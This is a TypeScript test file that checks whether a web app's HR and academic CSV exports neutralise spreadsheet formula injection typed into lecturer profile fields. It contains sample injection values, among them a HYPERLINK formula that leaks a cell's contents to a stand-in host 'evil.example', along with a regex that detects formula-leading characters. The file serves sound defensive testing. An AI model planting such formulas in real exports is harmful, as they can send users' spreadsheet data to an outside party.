/*
 * Finding 3 (issue 9): "The HR CSV export carries spreadsheet formulas typed into a profile
 * (`=1+2`, `@SUM(1,1)`, `=HYPERLINK(...)`), while the assignments export neutralises them."
 *
 * A lecturer types formulas into the profile fields the exports carry; human resources and the
 * academic office download their CSV files. No cell may start (after blanks) with a character a
 * spreadsheet reads as a formula, and numeric columns stay numbers.
 */
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { persons } from '../db/schema';
import { DEMO_ACCOUNTS } from '../seed/demo';
import { csvDocument, spreadsheetCell } from '../lib/spreadsheet';
import { type Client, createTestApp, signIn, type TestApp } from '../../test/helpers';
import { VALID_SECTIONS } from '../features/registration/fixtures';

const FORMULA = /^[\s\u00a0\u3000]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

/** The cells of a CSV export (after its byte-order mark) that a spreadsheet would run. */
function formulaCells(csv: string): string[] {
  const rows = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
  return rows.flat().filter((cell) => FORMULA.test(cell));
}

let t: TestApp;
let hr: Client;
let academic: Client;
let lecturer: Client;
let lecturerId: number;

beforeAll(async () => {
  t = await createTestApp();
  hr = (await signIn(t, DEMO_ACCOUNTS.hr.username)).client;
  academic = (await signIn(t, DEMO_ACCOUNTS.academic.username)).client;
  const session = await signIn(t, DEMO_ACCOUNTS.partTime.matricule);
  lecturer = session.client;
  lecturerId = session.user.id as number;
});
afterAll(async () => {
  await t?.close();
});

describe('finding 3: spreadsheet formulas in exports', () => {
  it('the HR registrations export writes formulas typed into a profile as text', async () => {
    const personal = { ...VALID_SECTIONS.personal, FIRSTNAME: '=1+2', LASTNAME: '@SUM(1,1)' };
    expect((await lecturer.request('PATCH', '/api/students/update/personal', personal)).statusCode).toBe(200);
    const address = { ...VALID_SECTIONS.address, LIVING_TOWN: '=HYPERLINK("http://evil.example/?leak="&A1,"click")', PRECINCT: '-2+3' };
    expect((await lecturer.request('PATCH', '/api/students/update/address', address)).statusCode).toBe(200);

    const res = await hr.get('/api/hr/registrations/export');
    expect(res.statusCode).toBe(200);
    const csv = res.rawPayload.toString('utf8');
    const raw = formulaCells(csv);
    console.warn(`finding 3, HR export: ${raw.length} formula cells exported raw (${raw.filter((c) => !c.startsWith('+237')).length} besides phone numbers)`);
    // The row is there, with what was typed, behind an apostrophe.
    const rows = parse(csv.replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
    const [matricule] = await t.db.select({ m: persons.MATRICULE }).from(persons).where(eq(persons.id, lecturerId));
    const row = rows.find((r) => r.MATRICULE === matricule!.m)!;
    expect(row).toMatchObject({ FIRSTNAME: "'=1+2", LASTNAME: "'@SUM(1,1)", LIVING_TOWN: `'${address.LIVING_TOWN}` });
    // A count stays a number.
    expect(row.MISSING_COUNT).toMatch(/^\d+$/);
    expect(raw).toEqual([]);
  });

  it('the assignments export goes through the same helper', async () => {
    const res = await academic.get('/api/academic/assignments/export');
    expect(res.statusCode).toBe(200);
    expect(formulaCells(res.rawPayload.toString('utf8'))).toEqual([]);
  });

  it('the helper: text starting like a formula (also after blanks, full-width) is quoted; numbers are not', () => {
    for (const value of ['=1+2', '+237 690000000', '-2+3', '@SUM(1,1)', '\t=1', '\r=1', '  =1', '\u00a0@x', '\uff1d1+2'])
      expect(spreadsheetCell(value)).toBe(`'${value}`);
    for (const value of ['Douala', 'a=b', '1-2', '', 'É=1']) expect(spreadsheetCell(value)).toBe(value);
    expect(spreadsheetCell(-1500)).toBe(-1500);
    expect(spreadsheetCell(null)).toBe('');
    const csv = csvDocument(['A', 'B'], [['=1+2', -3]]);
    expect(csv).toBe("\uFEFFA,B\n'=1+2,-3\n");
  });
});
